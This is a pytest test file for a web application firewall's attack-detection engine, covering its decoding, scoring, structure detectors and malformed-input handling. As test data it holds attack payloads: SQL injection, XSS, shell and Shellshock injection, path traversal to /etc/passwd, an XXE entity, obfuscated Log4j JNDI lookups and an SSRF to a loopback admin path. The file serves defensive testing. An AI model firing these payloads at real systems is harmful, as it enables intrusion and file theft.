"""Engine behaviour beyond the labelled cases: locations, scoring, decoding, structure
detectors, responses, signature files, and hostile inputs that must not blow up."""

from __future__ import annotations

import base64

import gzip
import json
import sys
import zlib
from pathlib import Path

import pytest
import yaml

from wallarm_wire.protocol import RequestMessage, ResponseMessage
from node.detect import decode, readings
from node.detect import engine as engine_module
from node.detect.engine import Detection, Engine, _to_bytes
from node.detect.log4j import detect_log4j
from node.detect.request import MAX_FIELDS, extract
from node.detect.shell import detect_shell
from node.detect.signatures import SignatureError, SignatureSet, parse_signatures
from node.detect.sqli import detect_sqli

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "scripts"))
from bench_detect import hostile_suite  # noqa: E402

CASES = Path(__file__).parent / "cases"
HOSTILE = hostile_suite()  # built once: some cases are large


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


def req(target: str = "/", headers: list | None = None, body: bytes = b"", ctype: str | None = None) -> RequestMessage:
    h = [(b"Host", b"app.example")] + (headers or [])
    if ctype:
        h.append((b"Content-Type", ctype.encode()))
    return RequestMessage("POST" if body else "GET", target, h, body)


# ---------------------------------------------------------------------------- interface


def test_detection_interface(engine: Engine) -> None:
    det = engine.analyze_request(req("/items?id=1%20union%20select%20password%20from%20users"))
    assert isinstance(det, Detection) and det.is_attack and det.score >= det.threshold
    a = det.attacks[0]
    assert (a.type, a.location) == ("sqli", "query.id")
    assert a.rule_id.startswith("sqli.") and 0 < len(a.excerpt) <= 120 and a.score > 0
    clean = engine.analyze_request(req("/items?id=42"))
    assert (clean.is_attack, clean.score, clean.attacks) == (False, 0, [])


@pytest.mark.parametrize(
    ("msg", "location"),
    [
        (req("/a?id=%27%20or%201%3D1--"), "query.id"),
        (req("/a", body=b'{"user": {"name": "<script>alert(1)</script>"}}', ctype="application/json"), "json.user.name"),
        (req("/a", headers=[(b"User-Agent", b"() { :; }; /bin/id")]), "header.user-agent"),
        (req("/a", body=b"x=..%2f..%2f..%2fetc%2fpasswd", ctype="application/x-www-form-urlencoded"), "body.form.x"),
        (req("/a", body=b'--B\r\nContent-Disposition: form-data; name="file"; filename="../../../etc/passwd"\r\n\r\nx\r\n--B--\r\n', ctype="multipart/form-data; boundary=B"), "multipart.file.filename"),
        (req("/a", body=b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', ctype="application/xml"), "xml.doctype"),
        (req("/../../../etc/passwd"), "path"),
        (req("/", headers=[(b"Cookie", b"a=1; sid=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D")]), "cookie.sid"),
        (req("/a", body=b"<r><q>1 union select password from users</q></r>", ctype="text/xml"), "xml.r.q"),
        (req("/a?user[$ne]=1"), "query.user[$ne]"),
    ],
)
def test_locations(engine: Engine, msg: RequestMessage, location: str) -> None:
    det = engine.analyze_request(msg)
    assert det.is_attack
    assert location in {a.location for a in det.attacks}, [a.location for a in det.attacks]


# ---------------------------------------------------------------------------- scoring


@pytest.mark.parametrize(
    "value",
    [
        "<em>bold</em> claim",  # a harmless tag: weak alone
        "see ../README.md",  # one step up: weak alone
        "javascript:void(0)",  # the most common href there is
        "http://localhost:3000/callback",  # internal address: weak alone
        "<!DOCTYPE html>",
        "{% if user %}hello{% endif %}",
    ],
)
def test_one_weak_signal_does_not_block(engine: Engine, value: str) -> None:
    det = engine.analyze_value(value)
    assert not det.is_attack, det


def test_weak_signals_in_one_value_add_up(engine: Engine) -> None:
    # js-uri (weak) + a script sink (weak) in the same value
    assert engine.analyze_value("javascript:alert(document.cookie)").is_attack
    # the same weak signals spread over two values do not
    msg = req("/a?x=javascript%3Avoid(0)&y=%3Cem%3Ehi%3C%2Fem%3E")
    assert not engine.analyze_request(msg).is_attack


def test_threshold_is_configurable() -> None:
    strict = Engine(threshold=5)
    assert strict.analyze_value("see ../README.md").is_attack


# ---------------------------------------------------------------------------- decoding


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("%253Cscript%253E", "<script>"),  # double URL
        ("%u003Cscript%u003E", "<script>"),  # IIS %u
        ("&#x3c;script&#62;", "<script>"),  # HTML entities
        ("\\u003cscript\\x3e", "<script>"),  # JS escapes
        ("%c0%ae%c0%ae%c0%af", "../"),  # overlong UTF-8
        ("%e4%b8%ad%e6%96%87", "中文"),  # real UTF-8 stays text
        ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<script>alert(1)</script>"),  # base64
        ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "<script>alert(1)</script>"),  # base64url, no padding
        ('{"id":"MSBhbmQgMT0y"}', "1 and 1=2"),  # base64 inside JSON inside a value
        ("0x2e0x2e0x2fetc", "../etc"),  # fuzzers' text hex
    ],
)
def test_variants_decode(raw: str, expected: str) -> None:
    assert expected in readings.variants(raw)


def test_variants_are_bounded() -> None:
    deep = "%25" * 50 + "3C"
    assert len(readings.variants(deep)) <= readings.MAX_FORMS
    assert decode.b64_decode("not base64 at all!") is None
    assert decode.b64_decode("////////") is None  # decodes to binary, not text


# ---------------------------------------------------------------------------- structure


@pytest.mark.parametrize(
    "value",
    ["' or 1=1--", "admin'--", "1 or 1=1", "-1 union select 1,2", "1; drop table users", "' or 'a'='a",
     "1 order by 3--", "')) or ((1=1", "'; exec xp_cmdshell 'dir'--", "x' and sleep(5)#", " AND 1=1"],
)
def test_sqli_structure_detects(value: str) -> None:
    assert detect_sqli(value), value


@pytest.mark.parametrize(
    "value",
    ["O'Reilly", "union was a great select", "1 or 2 apples", "it's -- great", "Select all",
     "please select a color from the list", "Bob's or Alice's", "5'10\"", "rock and roll",
     "/rc-select@14.5.2/lib/index.js", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", '"Not:A-Brand";v="99"'],
)
def test_sqli_structure_passes_prose(value: str) -> None:
    assert detect_sqli(value) is None, value


@pytest.mark.parametrize(
    "value",
    ["; cat /etc/passwd", "| id", "`whoami`", "$(id)", "a;c''at /etc/passwd", ";cat${IFS}/etc/passwd",
     "\nls -la", "&& ping -c 1 10.0.0.1", "; /usr/bin/id", "x; then sleep 5; fi"],
)
def test_shell_structure_detects(value: str) -> None:
    assert detect_shell(value), value


@pytest.mark.parametrize(
    "value",
    ["Tom & Jerry", "cats & dogs; cat lovers too", "rock|paper", "mammal;cat;ears", "ls 300 lexus",
     "Oxygen & Sleep Associates", "Use the `ls` command to list files", "```python\nprint(1)\n```"],
)
def test_shell_structure_passes_prose(value: str) -> None:
    assert detect_shell(value) is None, value


def test_shell_newlines_are_text_in_bodies() -> None:
    assert detect_shell("line one\nls -la", "query")
    assert detect_shell("line one\nls -la", "json") is None


@pytest.mark.parametrize(
    "value",
    ["${jndi:ldap://x/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
     "${${env:X:-j}ndi${env:X:-:}ldap://x/a}"],
)
def test_log4j_detects(value: str) -> None:
    assert detect_log4j(value), value


def test_log4j_passes_templates() -> None:
    assert detect_log4j("Hello ${name}, total ${amount}") is None


# ---------------------------------------------------------------------------- responses


def test_response_leaks(engine: Engine) -> None:
    sql = ResponseMessage(500, [(b"Content-Type", b"text/html")], b"<b>You have an error in your SQL syntax</b> near ''' at line 1")
    assert {a.type for a in engine.analyze_response(sql).attacks} == {"sqli"}
    passwd = ResponseMessage(200, [], b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin")
    assert "ptrav" in {a.type for a in engine.analyze_response(passwd).attacks}
    gz = ResponseMessage(500, [(b"Content-Encoding", b"gzip")], gzip.compress(b'Traceback (most recent call last):\n  File "x.py"'))
    assert engine.analyze_response(gz).is_attack
    page = ResponseMessage(200, [(b"Content-Type", b"text/html")], b"<html><body><h1>Welcome</h1><p>Select a product.</p></body></html>")
    assert not engine.analyze_response(page).is_attack
    assert not engine.analyze_response(ResponseMessage(204, [])).is_attack


# ---------------------------------------------------------------------------- signature files


def test_signature_file_errors_are_clear() -> None:
    good = {"id": "a", "type": "xss", "score": 10, "pattern": "x"}
    with pytest.raises(SignatureError, match="duplicate ids"):
        parse_signatures([good, dict(good)], "t.yaml")
    with pytest.raises(SignatureError, match="unknown type"):
        parse_signatures([dict(good, type="nope")], "t.yaml")
    with pytest.raises(SignatureError, match="unknown detector"):
        parse_signatures([dict(good, detector="nope")], "t.yaml")
    with pytest.raises(SignatureError, match=r"t\.yaml\[0\]"):
        parse_signatures([{"id": "x"}], "t.yaml")
    with pytest.raises(SignatureError, match="signature bad"):
        SignatureSet(parse_signatures([dict(good, id="bad", pattern="(unclosed")], "t.yaml"))


def test_signatures_match_wherever_the_value_sits(engine: Engine) -> None:
    """hyperscan 0.9.1 can miss some bounded-repeat patterns when the match starts past ~16
    bytes; every signature that matches a case at the start must match it after a prefix."""
    attacks = yaml.safe_load((CASES / "attacks.yaml").read_text("utf-8"))
    sigs = engine.request_sigs.signatures
    lost = []
    for section in attacks.values():
        for item in section:
            value = item["value"] if isinstance(item, dict) else item
            for form in readings.variants(value):
                near = engine.request_sigs.scan(_to_bytes("\n" + form + "\n"))
                far = engine.request_sigs.scan(_to_bytes("\n" + "A" * 64 + "\n" + form + "\n"))
                lost += [(sigs[i].id, form) for i in near - far]
    assert not lost, lost[:10]


# ---------------------------------------------------------------------------- hostile input


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_inputs_are_judged_not_fatal(engine: Engine, name: str) -> None:
    det = engine.analyze_request(HOSTILE[name])
    assert isinstance(det, Detection)


def test_hostile_attack_inputs_still_found(engine: Engine) -> None:
    suite = HOSTILE
    for name in ("deep-url-encoding", "form-1mb-dots", "xml-billion-laughs"):
        assert engine.analyze_request(suite[name]).is_attack, name


def test_absolute_form_target(engine: Engine) -> None:
    assert not engine.analyze_request(req("http://localhost:8080/api/items?id=7")).is_attack
    det = engine.analyze_request(req("http://app.example/api?id=1%20or%201%3D1"))
    assert det.is_attack and det.attacks[0].location == "query.id"


def test_field_count_is_bounded() -> None:
    # values the engine judges ('v;' is not a trivial token: trivial pairs are never fields)
    msg = req("/s", body="&".join(f"p{i}=v;" for i in range(MAX_FIELDS // 2 + 10)).encode(),
              ctype="application/x-www-form-urlencoded")
    sink = extract(msg)
    assert len(sink.fields) == MAX_FIELDS and sink.dropped > 0 and sink.reasons == ["fields"]
    trivial = req("/s", body="&".join(f"p{i}=v" for i in range(MAX_FIELDS // 2 + 10)).encode(),
                  ctype="application/x-www-form-urlencoded")
    assert [f for f in extract(trivial).fields if f[0] in ("form", "key")] == [] and not extract(trivial).reasons


@pytest.mark.parametrize(
    "msg",
    [
        req("/", body=b"\x1f\x8b\x08garbage", ctype="application/json", headers=[(b"Content-Encoding", b"gzip")]),
        req("/", body=zlib.compress(b'{"a": "<script>alert(1)</script>"}'), ctype="application/json", headers=[(b"Content-Encoding", b"deflate")]),
        req("/", body=b'{"a": [1, 2', ctype="application/json"),
        req("/", body=b"--B\r\nContent-Disposition: form-data\r\n\r\n", ctype="multipart/form-data; boundary=B"),
        req("/", body=b"--B\r\nno headers at all", ctype="multipart/form-data"),
        req("/", body=b"<a><b attr='x'>text</a></b><<>>", ctype="application/xml"),
        req("/", body=b"\xff\xfe\x00\x00 binary \x00\x01", ctype="application/octet-stream"),
        req("/%ff%fe%c0?%zz=%&&==&=x", headers=[(b"X-Bad", b"\xff\xfe\xfd")]),
        req("/", headers=[(b"Cookie", b";;;=;a=%;b")]),
        RequestMessage("GET", "", [], b""),
    ],
)
def test_malformed_requests_never_raise(engine: Engine, msg: RequestMessage) -> None:
    assert isinstance(engine.analyze_request(msg), Detection)


def test_deflate_body_is_judged(engine: Engine) -> None:
    msg = req("/", body=zlib.compress(b'{"a": "<script>alert(1)</script>"}'), ctype="application/json", headers=[(b"Content-Encoding", b"deflate")])
    assert engine.analyze_request(msg).is_attack


def test_json_nesting_depth_bounded(engine: Engine) -> None:
    deep = json.dumps({"a": "x"})
    for _ in range(100):
        deep = '{"k": ' + deep + "}"
    det = engine.analyze_request(req("/", body=deep.encode(), ctype="application/json"))
    assert not det.is_attack


SHORT_PROBES = [";id", "|id", "$(id)", "*)(&)", "'--", "`id`", ";\nid;", ")(&)"]  # O2lk fGlk JChpZCk KikoJik Jy0t YGlkYA OwppZDs KSgmKQ


@pytest.mark.parametrize("probe", SHORT_PROBES)
def test_base64_of_a_short_probe_is_judged_wherever_it_sits(engine: Engine, probe: str) -> None:
    token = base64.b64encode(probe.encode()).decode().rstrip("=")
    assert len(token) < 8  # shorter than any token the engine's base64 search reads
    filler = "&".join(f"f{i}=v{i}" for i in range(200))  # past trivial.MIN_STRIPPED_TEXT: the bulk pass
    keys = ", ".join(f'"k{i}": "v"' for i in range(300))  # a large object: its keys sorted in bulk
    many = [(f"X-H-{i}".encode(), b"v") for i in range(100)]  # past the header lines sorted in bulk
    for msg in (req(f"/a?x={token}"), req(f"/a?{filler}&x={token}"),
                req("/a", body=f"a=1&x={token}".encode(), ctype="application/x-www-form-urlencoded"),
                req("/a", body=f'{{{keys}, "x": "{token}"}}'.encode(), ctype="application/json"),
                req("/a", [*many, (b"X-Token", token.encode())]), req("/a", [(b"Cookie", f"s={token}".encode())])):
        assert engine.analyze_request(msg).is_attack, (probe, token, msg.target, msg.body[:60])


@pytest.mark.parametrize("word", ["John", "iPhone", "en-US", "userId", "McD", "AbCdEf", "Jw", "ITNO"])
def test_short_mixed_case_words_are_not_attacks(engine: Engine, word: str) -> None:
    assert not engine.analyze_request(req(f"/a?x={word}")).is_attack


def test_base64_of_upper_case_sql_is_judged_though_it_encodes_to_one_case(engine: Engine) -> None:
    token = "J09SREVSIEJZIDI4"  # 'ORDER BY 28: upper-case text that encodes to upper case only
    assert base64.b64decode(token + "==") == b"'ORDER BY 28"
    keys = ", ".join(f'"k{i}": "v"' for i in range(300))  # a large object: its members sorted in bulk
    for msg in (req(f"/a?x={token}"), req("/a", body=f'{{{keys}, "x": "{token}"}}'.encode(), ctype="application/json"),
                req("/a", body=f'{{{keys}, "{token}": 1}}'.encode(), ctype="application/json")):
        assert engine.analyze_request(msg).is_attack, msg.body[-40:]


@pytest.mark.parametrize("token", ["DEADBEEFCAFE0123", "ABCDEFGH12345", "SKU-12345-AB", "EUR", "1688378106498"])
def test_upper_case_ids_are_not_attacks(engine: Engine, token: str) -> None:
    assert not engine.analyze_request(req(f"/a?x={token}")).is_attack


def test_readings_on_the_way_are_judged_before_later_escape_rounds_eat_them(engine: Engine) -> None:
    from node.detect.readings import readings

    # a framework hands the backend `http:\\127.1/admin`; undoing `\127` as a JS escape loses the host
    assert "http:\\\\127.1/admin" in readings("http%3A%5C%5C127.1/admin", "query").forms
    assert engine.analyze_request(req("/fetch?url=http%3A%5C%5C127.1/admin")).is_attack
    assert not engine.analyze_request(req("/search?q=C%3A%5Cdocs%5C2024%5Creport.pdf")).is_attack
    # each round's result, not only the last: entities first, then the JS step would eat the host
    entities = "".join(f"&#x{ord(c):x};" for c in "http:\\\\127.1/admin")
    assert "http:\\\\127.1/admin" in readings(entities, "xml").forms
    body = f'<?xml version="1.0"?><request><url>{entities}</url></request>'.encode()
    assert engine.analyze_request(req("/hook", body=body, ctype="application/xml")).is_attack


def test_literals_answer_as_substring_tests_do() -> None:
    import random
    import threading

    from node.detect.literals import Literals

    words = Literals(["union", "||", "start-process", "ab"])
    rnd = random.Random(1)
    for _ in range(20_000):
        text = "".join(rnd.choice("abunio|-stréſ\udc80 ") for _ in range(rnd.randint(0, 30)))
        assert words.any_in(text) == any(w in text for w in words.words), text
    # a scratch per thread: the node's large-message lane judges in a thread of its own
    results: list[bool] = []
    thread = threading.Thread(target=lambda: results.append(words.any_in("x union y")))
    thread.start()
    thread.join()
    assert results == [True]
    with pytest.raises(ValueError):
        Literals(["é"])


def test_a_long_value_repeated_is_judged_once() -> None:
    engine = Engine()
    payload = '{"m": "' + "x " * 800 + '", "q": "1\' or \'1\'=\'1"}'
    engine.judged = []
    first = engine.analyze_value(payload, "form.e", "form")
    again = engine.analyze_value(payload, "form.e", "form")
    assert len(payload) > 1024 and [value for _, _, value in engine.judged] == [payload]  # the second from the digest-keyed cache
    assert [a.rule_id for a in first.attacks] == [a.rule_id for a in again.attacks] != []


def test_an_analysers_verdict_serves_the_same_text_in_another_value(monkeypatch: pytest.MonkeyPatch) -> None:
    engine = Engine()
    ran: list[str] = []
    sqli = engine_module._DETECTORS["sqli"]

    def counted(text, *args):  # type: ignore[no-untyped-def]
        ran.append(text)
        return sqli(text, *args)

    monkeypatch.setitem(engine_module._DETECTORS, "sqli", counted)
    piece = "1' union select password from users --"
    long_piece = piece + " " + "word " * 300  # past MEMO_CHARS: read in the windows its signature gates
    idx = next(i for i, sig in enumerate(engine.request_sigs.signatures) if sig.detector == "sqli")
    for text in (piece, long_piece):
        for _ in range(2):  # in two values, two requests
            run = engine_module._Run(engine.threshold, len(text))
            assert engine._analysed_text(run, "sqli", idx, text, "json") is not None
    assert ran == [piece, long_piece]  # once each: as itself, and under its digest


def test_an_analysis_cut_by_the_time_bound_is_not_kept() -> None:
    engine = Engine()
    run = engine_module._Run(engine.threshold, 10)
    run.stopped = True
    engine._analysed_text(run, "sqli", 0, "1' or '1'='1", "query")
    assert not engine._analysed
